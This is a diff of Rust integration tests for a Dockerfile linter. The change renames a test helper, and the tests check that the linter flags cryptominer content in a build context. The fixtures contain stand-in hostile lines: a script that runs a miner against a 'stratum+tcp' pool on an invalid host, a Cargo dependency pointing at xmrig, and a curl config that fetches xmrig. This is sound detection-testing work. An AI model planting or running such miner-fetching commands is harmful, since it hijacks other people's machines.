@@ -1,14 +1,14 @@
 //! `lint` with the files that a Dockerfile takes.
 
-use super::room::Room;
+use super::project::Project;
 
 const TAKES_ALL: &str = "FROM debian:12\nCOPY . /app\n";
 const SCRIPT: &str = "#!/bin/sh\nset -e\nexec /opt/tool -o stratum+tcp://pool.example.invalid:1\n";
 
 #[test]
 fn a_finding_points_into_the_script_and_at_the_copy() {
-    let room = Room::with(&[("app/Dockerfile", TAKES_ALL), ("app/bin/start", SCRIPT)]);
-    let run = room.run(&["lint", "app"]);
+    let project = Project::with(&[("app/Dockerfile", TAKES_ALL), ("app/bin/start", SCRIPT)]);
+    let run = project.run(&["lint", "app"]);
     assert_eq!(run.code, 1, "{}", run.err);
     assert!(run.out.contains("app/bin/start:3:"), "{}", run.out);
     assert!(run.out.contains("app/Dockerfile:2:6"), "{}", run.out);
@@ -17,22 +17,22 @@ fn a_finding_points_into_the_script_and_at_the_copy() {
 
 #[test]
 fn the_context_may_lie_elsewhere_or_be_left_out() {
-    let room = Room::with(&[
+    let project = Project::with(&[
         ("docker/Dockerfile", "FROM debian:12\nCOPY bin/start /\n"),
         ("src/bin/start", SCRIPT),
     ]);
-    assert_eq!(room.run(&["lint", "docker"]).code, 0);
-    assert_eq!(room.run(&["lint", "docker", "--context", "src"]).code, 1);
-    assert_eq!(room.run(&["lint", "src", "docker", "--context", "src", "--no-context"]).code, 2);
-    room.write("docker/bin/start", SCRIPT);
-    assert_eq!(room.run(&["lint", "docker"]).code, 1);
-    assert_eq!(room.run(&["lint", "docker", "--no-context"]).code, 0);
+    assert_eq!(project.run(&["lint", "docker"]).code, 0);
+    assert_eq!(project.run(&["lint", "docker", "--context", "src"]).code, 1);
+    assert_eq!(project.run(&["lint", "src", "docker", "--context", "src", "--no-context"]).code, 2);
+    project.write("docker/bin/start", SCRIPT);
+    assert_eq!(project.run(&["lint", "docker"]).code, 1);
+    assert_eq!(project.run(&["lint", "docker", "--no-context"]).code, 0);
 }
 
 #[test]
 fn a_context_that_is_not_there_is_an_error() {
-    let room = Room::with(&[("Dockerfile", TAKES_ALL)]);
-    let run = room.run(&["lint", "--context", "nowhere"]);
+    let project = Project::with(&[("Dockerfile", TAKES_ALL)]);
+    let run = project.run(&["lint", "--context", "nowhere"]);
     assert_eq!(run.code, 2);
     assert!(run.err.contains("`nowhere` is no directory"), "{}", run.err);
 }
@@ -40,24 +40,27 @@ fn a_context_that_is_not_there_is_an_error() {
 #[test]
 fn what_the_build_does_not_see_is_not_judged() {
     let files = [("Dockerfile", TAKES_ALL), ("start.sh", SCRIPT), (".dockerignore", "*.sh\n")];
-    let room = Room::with(&files);
-    assert_eq!(room.run(&["lint"]).code, 0);
+    let project = Project::with(&files);
+    assert_eq!(project.run(&["lint"]).code, 0);
     // the ignore file of this Dockerfile comes first
-    room.write("Dockerfile.dockerignore", "*.md\n");
-    assert_eq!(room.run(&["lint"]).code, 1);
+    project.write("Dockerfile.dockerignore", "*.md\n");
+    assert_eq!(project.run(&["lint"]).code, 1);
 }
 
 #[test]
 fn a_file_gives_the_same_answer_to_lint_and_scan_whatever_its_name() {
     use std::os::unix::ffi::OsStrExt as _;
-    let room =
-        Room::with(&[("a/Dockerfile", TAKES_ALL), ("b/Dockerfile", TAKES_ALL), ("b/data", SCRIPT)]);
+    let project = Project::with(&[
+        ("a/Dockerfile", TAKES_ALL),
+        ("b/Dockerfile", TAKES_ALL),
+        ("b/data", SCRIPT),
+    ]);
     let odd = std::ffi::OsStr::from_bytes(b"run\xff.sh");
-    std::fs::write(room.path("a").join(odd), SCRIPT).unwrap();
-    std::fs::hard_link(room.path("b/data"), room.path("b/start.sh")).unwrap();
+    std::fs::write(project.path("a").join(odd), SCRIPT).unwrap();
+    std::fs::hard_link(project.path("b/data"), project.path("b/start.sh")).unwrap();
     for directory in ["a", "b"] {
         for command in ["lint", "scan"] {
-            let run = room.run(&[command, "--format", "short", directory]);
+            let run = project.run(&[command, "--format", "short", directory]);
             assert_eq!(run.code, 1, "{command} {directory}: {}{}", run.out, run.err);
             assert!(run.out.contains("STOP[mining-pool]"), "{command} {directory}: {}", run.out);
         }
@@ -67,13 +70,13 @@ fn a_file_gives_the_same_answer_to_lint_and_scan_whatever_its_name() {
 #[test]
 fn a_text_that_is_a_script_under_its_second_name_alone_is_read() {
     let pool = "exec /opt/tool -o stratum+tcp://pool.example.invalid:1\n";
-    let room = Room::with(&[("b/Dockerfile", TAKES_ALL), ("b/data", pool)]);
+    let project = Project::with(&[("b/Dockerfile", TAKES_ALL), ("b/data", pool)]);
     for command in ["lint", "scan"] {
-        assert_eq!(room.run(&[command, "b"]).code, 0, "{command}");
+        assert_eq!(project.run(&[command, "b"]).code, 0, "{command}");
     }
-    std::fs::hard_link(room.path("b/data"), room.path("b/start.sh")).unwrap();
+    std::fs::hard_link(project.path("b/data"), project.path("b/start.sh")).unwrap();
     for command in ["lint", "scan"] {
-        assert_eq!(room.run(&[command, "b"]).code, 1, "{command}");
+        assert_eq!(project.run(&[command, "b"]).code, 1, "{command}");
     }
 }
 
@@ -89,22 +92,22 @@ fn manifests_are_read_as_the_commands_that_they_stand_for() {
         ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/xmrig/xmrig\" }\n", 2),
     ];
     for (name, text, line) in files {
-        let room = Room::with(&[("Dockerfile", TAKES_ALL), (name, text)]);
-        let run = room.run(&["lint", "--format", "short"]);
+        let project = Project::with(&[("Dockerfile", TAKES_ALL), (name, text)]);
+        let run = project.run(&["lint", "--format", "short"]);
         assert_eq!(run.code, 1, "{name}: {}", run.out);
         assert!(run.out.contains(&format!("{name}:{line}:")), "{name}: {}", run.out);
     }
     let listed = "FROM debian:12\nCOPY dl.cfg /tmp/\nRUN curl -K /tmp/dl.cfg\n";
     let urls = "url = https://h.example.invalid/xmrig\noutput = /opt/app\n";
-    let room = Room::with(&[("Dockerfile", listed), ("dl.cfg", urls)]);
-    let run = room.run(&["lint", "--format", "short"]);
+    let project = Project::with(&[("Dockerfile", listed), ("dl.cfg", urls)]);
+    let run = project.run(&["lint", "--format", "short"]);
     assert!(run.out.contains("dl.cfg:1:33"), "{}", run.out);
 }
 
 #[test]
 fn archives_are_opened() {
     use std::io::Write as _;
-    let room = Room::with(&[("Dockerfile", "FROM debian:12\nADD rootfs.tgz /\n")]);
+    let project = Project::with(&[("Dockerfile", "FROM debian:12\nADD rootfs.tgz /\n")]);
     let mut header = [0; 512];
     header[..7].copy_from_slice(b"bin/run");
     header[100..107].copy_from_slice(b"0000755");
@@ -119,35 +122,35 @@ fn archives_are_opened() {
     tar.resize(512 + 512 + 1024, 0);
     let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     packed.write_all(&tar).expect("a vector takes everything");
-    room.write("rootfs.tgz", packed.finish().expect("a vector takes everything"));
-    let run = room.run(&["lint", "--format", "short"]);
+    project.write("rootfs.tgz", packed.finish().expect("a vector takes everything"));
+    let run = project.run(&["lint", "--format", "short"]);
     assert!(run.out.contains("rootfs.tgz!bin/run:3:"), "{}", run.out);
-    let cut = std::fs::read(room.path("rootfs.tgz")).expect("it is there");
-    room.write("rootfs.tgz", &cut[..cut.len() / 2]);
-    let run = room.run(&["lint", "--format", "short"]);
+    let cut = std::fs::read(project.path("rootfs.tgz")).expect("it is there");
+    project.write("rootfs.tgz", &cut[..cut.len() / 2]);
+    let run = project.run(&["lint", "--format", "short"]);
     assert!(run.out.contains("opaque-file") && run.out.contains("cut off"), "{}", run.out);
 }
 
 #[test]
 fn a_text_that_gets_the_name_of_a_script_is_one() {
     let text = "FROM debian:12\nCOPY setup.txt /setup\nRUN sh /setup\n";
-    let room = Room::with(&[
+    let project = Project::with(&[
         ("Dockerfile", text),
         ("setup.txt", SCRIPT.split_once('\n').expect("lines").1),
     ]);
-    let run = room.run(&["lint", "--format", "short"]);
+    let run = project.run(&["lint", "--format", "short"]);
     assert!(run.out.contains("setup.txt:2:"), "{}", run.out);
-    room.write("Dockerfile", "FROM debian:12\nCOPY setup.txt /notes\nRUN sh /setup\n");
-    assert_eq!(room.run(&["lint"]).code, 0);
+    project.write("Dockerfile", "FROM debian:12\nCOPY setup.txt /notes\nRUN sh /setup\n");
+    assert_eq!(project.run(&["lint"]).code, 0);
 }
 
 #[test]
 fn a_script_that_is_not_utf_8_is_read_at_the_right_places() {
-    let room = Room::with(&[("Dockerfile", TAKES_ALL)]);
+    let project = Project::with(&[("Dockerfile", TAKES_ALL)]);
     let mut script = b"#!/bin/sh\n# \xff\xfe\n".to_vec();
     script.extend_from_slice(b"run stratum+tcp://pool.example.invalid:1\n");
-    room.write("start", script);
-    let run = room.run(&["lint", "--format", "short"]);
+    project.write("start", script);
+    let run = project.run(&["lint", "--format", "short"]);
     assert!(run.out.contains("start:3:5"), "{}", run.out);
 }
 
@@ -155,22 +158,22 @@ fn a_script_that_is_not_utf_8_is_read_at_the_right_places() {
 #[test]
 fn links_lead_nowhere_outside_and_pipes_block_nothing() {
     use std::os::unix::fs::symlink;
-    let room = Room::with(&[("app/Dockerfile", TAKES_ALL), ("start.sh", SCRIPT)]);
-    symlink("../start.sh", room.path("app/outside.sh")).expect("a link can be made");
-    symlink(".", room.path("app/loop")).expect("a link can be made");
-    let made = std::process::Command::new("mkfifo").arg(room.path("app/pipe.sh")).status();
+    let project = Project::with(&[("app/Dockerfile", TAKES_ALL), ("start.sh", SCRIPT)]);
+    symlink("../start.sh", project.path("app/outside.sh")).expect("a link can be made");
+    symlink(".", project.path("app/loop")).expect("a link can be made");
+    let made = std::process::Command::new("mkfifo").arg(project.path("app/pipe.sh")).status();
     assert!(made.expect("mkfifo runs").success());
-    assert_eq!(room.run(&["lint", "app"]).code, 0);
-    room.write("elsewhere/start.sh", SCRIPT);
-    symlink("../elsewhere", room.path("app/way")).expect("a link can be made");
-    room.write("app/Dockerfile", "FROM debian:12\nCOPY way/start.sh /app/\n");
-    let run = room.run(&["lint", "app"]);
+    assert_eq!(project.run(&["lint", "app"]).code, 0);
+    project.write("elsewhere/start.sh", SCRIPT);
+    symlink("../elsewhere", project.path("app/way")).expect("a link can be made");
+    project.write("app/Dockerfile", "FROM debian:12\nCOPY way/start.sh /app/\n");
+    let run = project.run(&["lint", "app"]);
     assert!(run.out.contains("leads out of the build context"), "{}", run.out);
     assert!(!run.out.contains("pool.example.invalid"), "it was read: {}", run.out);
-    room.write("app/hidden/real", SCRIPT);
-    room.write("app/Dockerfile", "FROM debian:12\nCOPY link.sh /app/\n");
-    symlink("hidden/real", room.path("app/link.sh")).expect("a link can be made");
-    assert_eq!(room.run(&["lint", "app"]).code, 1);
+    project.write("app/hidden/real", SCRIPT);
+    project.write("app/Dockerfile", "FROM debian:12\nCOPY link.sh /app/\n");
+    symlink("hidden/real", project.path("app/link.sh")).expect("a link can be made");
+    assert_eq!(project.run(&["lint", "app"]).code, 1);
 }
 
 #[test]
@@ -181,13 +184,13 @@ fn a_script_that_is_too_much_to_follow_is_said_if_something_runs_it() {
          mkdir -p /cache/$a/$b/$c/$d/$e\ndone; done; done; done; done\n"
     );
     let run = "FROM debian:12\nCOPY fill.sh /usr/bin/\nENTRYPOINT [\"fill.sh\"]\n";
-    let room = Room::with(&[("a/Dockerfile", run), ("a/fill.sh", &rounds)]);
-    let outcome = room.run(&["lint", "--format", "short", "a"]);
+    let project = Project::with(&[("a/Dockerfile", run), ("a/fill.sh", &rounds)]);
+    let outcome = project.run(&["lint", "--format", "short", "a"]);
     assert_eq!(outcome.code, 0, "{}", outcome.err);
     assert!(outcome.out.contains("unfinished-reading"), "{}", outcome.out);
-    let outcome = room.run(&["lint", "--preset", "locked-down", "--format", "short", "a"]);
+    let outcome = project.run(&["lint", "--preset", "locked-down", "--format", "short", "a"]);
     assert_eq!(outcome.code, 1, "{}", outcome.out);
-    room.write("a/Dockerfile", TAKES_ALL);
-    let outcome = room.run(&["lint", "--format", "short", "a"]);
+    project.write("a/Dockerfile", TAKES_ALL);
+    let outcome = project.run(&["lint", "--format", "short", "a"]);
     assert!(!outcome.out.contains("unfinished-reading"), "{}", outcome.out);
 }
